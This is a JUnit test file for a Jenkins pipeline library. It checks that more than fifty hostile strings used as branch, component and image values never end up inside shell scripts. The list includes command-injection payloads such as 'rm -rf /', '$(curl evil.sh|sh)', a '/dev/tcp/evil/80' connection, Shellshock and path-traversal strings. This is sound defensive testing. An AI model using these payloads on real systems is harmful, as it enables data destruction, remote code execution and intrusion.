package com.koreapublicdata.pipeline.jenkins;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/** Hostile branch names, component names, image tags and messages never reach a shell as code. */
class HostileInputTest {

    static List<String> hostile() {
        return List.of(
                "'; rm -rf / #", "\"; rm -rf / #", "$(reboot)", "`reboot`", "${PATH}", "$HOME", "a;b", "a&&b", "a||b",
                "a|b", "a>b", "a<b", "a\nrm -rf /", "a\r\nb", "\\\"", "\\'", "'\"'\"'", "\"$(id)\"", "'$(id)'",
                "${env.KOREA_SLACK_TOKEN}", "${7*7}", "#{7*7}", "%{x}", "$((1+1))", "!!", "!$", "a b c", "\ttab",
                "--help", "-rf", "--config=/etc/passwd", "../../etc/passwd", "*", "?", "[a-z]*", "~root", "a=b",
                "KOREA_X=1 sh", "feature/$(curl evil.sh|sh)", "v1.0;curl x", "1.0`id`", "sha256:$(id)",
                "exec 3<>/dev/tcp/evil/80", "() { :; }; echo vulnerable", "<script>alert(1)</script>",
                "\u202Eevil", "名前; rm", "line1\nline2\n", "{{7*7}}", "@(id)", "\\$(id)", "'''", "\"\"\"", "$'\\x41'");
    }

    @Test
    void shouldHaveAtLeastFiftyHostileStrings() {
        assertThat(hostile()).hasSizeGreaterThanOrEqualTo(50).doesNotHaveDuplicates();
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void shouldPassHostileValuesToTheShellOnlyThroughTheEnvironment(String value) {
        PipelineHarness h = Canned.harness("develop").env("HOSTILE", value);
        String jenkinsfile = """
                node {
                    koreaPromote(component: env.HOSTILE, environment: env.HOSTILE, image: env.HOSTILE,
                                 approvedBy: env.HOSTILE, timeout: env.HOSTILE)
                    koreaNotify(event: 'failed', component: env.HOSTILE, environment: env.HOSTILE, version: env.HOSTILE,
                                reason: env.HOSTILE, via: 'engine')
                }
                """;
        PipelineHarness.Run run = h.run(jenkinsfile, "Jenkinsfile");

        assertThat(run.result()).isEqualTo("SUCCESS");
        assertThat(run.calls("sh")).hasSize(2).allSatisfy(s -> assertThat((String) s.arg("script")).doesNotContain(value));
        assertThat(run.calls("withEnv")).anySatisfy(w -> assertThat(List.copyOf((List<?>) w.args().get(0)).stream()
                .map(String::valueOf).toList()).contains("KOREA_COMPONENT=" + value, "KOREA_APPROVED_BY=" + value,
                "KOREA_IMAGE=" + value, "KOREA_TIMEOUT=" + value));
        assertThat(run.calls("withEnv")).anySatisfy(w -> assertThat(List.copyOf((List<?>) w.args().get(0)).stream()
                .map(String::valueOf).toList()).contains("KOREA_REASON=" + value, "KOREA_VERSION=" + value));
    }

    @Test
    void shouldKeepEveryHostileValueOutOfBuildScanAndRollbackScripts() {
        PipelineHarness h = Canned.harness("develop").taint(hostile().toArray(String[]::new));
        h.file("hostile.json", Canned.json(hostile()));
        PipelineHarness.Run run = h.run("""
                node {
                    for (String v : readJSON(file: 'hostile.json', returnPojo: true)) {
                        koreaBuild(component: v, version: v, branch: v, commit: v)
                        koreaScan(component: v, image: v, failOn: v, formats: [])
                        koreaRollback(component: v, environment: v, toRevision: v, reason: v)
                    }
                }
                """, "Jenkinsfile");

        assertThat(run.result()).isEqualTo("SUCCESS");
        assertThat(run.calls("sh")).hasSize(3 * hostile().size());
        for (String value : hostile()) {
            assertThat(run.calls("sh")).allSatisfy(s -> assertThat((String) s.arg("script")).doesNotContain(value));
        }
    }

    @Test
    void shouldKeepHostileBranchAndComponentNamesOutOfScriptsInTheWholePipeline() {
        List<String> names = hostile().subList(0, 12);
        PipelineHarness h = Canned.harness(hostile().get(38)).answerInput(PipelineHarness.InputAnswer.approve("$(id)", "`reboot` $(id)"));
        h.taint(names.toArray(String[]::new)).taint("$(id)", "`reboot` $(id)");
        h.korea("plan", 0, Canned.plan("production", true, "engine", false, names.toArray(String[]::new)));
        h.korea("build", call -> new PipelineHarness.KoreaResult(0, Canned.json(Canned.result("passed", true, "built",
                Map.of("reference", "r@" + call.env().get("KOREA_COMPONENT"), "digest", "sha256:$(id)", "tags", List.of("`reboot`"))))));

        PipelineHarness.Run run = h.run("koreaPipeline()\n", "Jenkinsfile");

        assertThat(run.result()).isEqualTo("SUCCESS");
        assertThat(run.calls("koreaPromote")).hasSize(12).extracting(c -> c.arg("component")).containsExactlyElementsOf(names);
        assertThat(run.calls("koreaPromote")).allSatisfy(c -> assertThat(c.arg("approvedBy")).isEqualTo(List.of("$(id)")))
                .allSatisfy(c -> assertThat(c.arg("reason")).isEqualTo("`reboot` $(id)"));
    }

}
